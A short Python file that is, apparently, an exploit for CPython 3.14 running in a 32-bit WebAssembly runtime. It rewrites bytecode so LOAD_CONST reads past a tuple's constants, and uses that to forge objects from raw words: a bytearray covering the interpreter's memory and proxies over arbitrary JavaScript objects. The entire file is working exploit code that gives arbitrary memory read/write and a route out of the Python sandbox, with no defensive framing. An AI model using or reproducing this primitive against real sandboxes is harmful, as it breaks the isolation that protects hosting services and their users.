# Crafted bytecode of CPython 3.14 loads any address as an object: a forged bytearray over the interpreter's whole memory,
# and proxies over whatever JavaScript objects the runtime refers to.
EXTENDED_ARG, LOAD_CONST = 69, 82
_kept = []


def _words(*numbers):
    return b"".join((number & 0xFFFFFFFF).to_bytes(4, "little") for number in numbers)


def _constant_at(address):
    consts = ("anchor-of-forged-constants",)
    index = ((address - id(consts) - tuple.__basicsize__) // 4) & 0xFFFFFFFF
    plain = compile("'a-text'", "", "eval")
    code = plain.co_code
    at = next(i for i in range(0, len(code), 2) if code[i] == LOAD_CONST)
    load = [EXTENDED_ARG, index >> 24, EXTENDED_ARG, index >> 16 & 255, EXTENDED_ARG, index >> 8 & 255, LOAD_CONST, index & 255]
    return eval(plain.replace(co_code=code[:at] + bytes(load) + code[at + 2 :], co_consts=consts))


def _start(raw):
    _kept.append(raw)
    return id(raw) + bytes.__basicsize__ - 1


def forge(*numbers):
    """The object whose 32-bit words these are."""
    return _constant_at(_start(_words(_start(_words(*numbers)))))


def forge_memory(size=20 << 20):
    return forge(1000, id(bytearray), size, size + 1, 0, 0, 0, 0)


def forge_proxy(reference):
    """The JavaScript object that the runtime knows by this number."""
    types = [c for c in object.__subclasses__() if c.__name__ == "JsProxy" and c.__dictoffset__ >= 0]
    return forge(1000, id(types[0]), 0, 0, 0, 0, 0, 0, 0, reference, 0, -2)
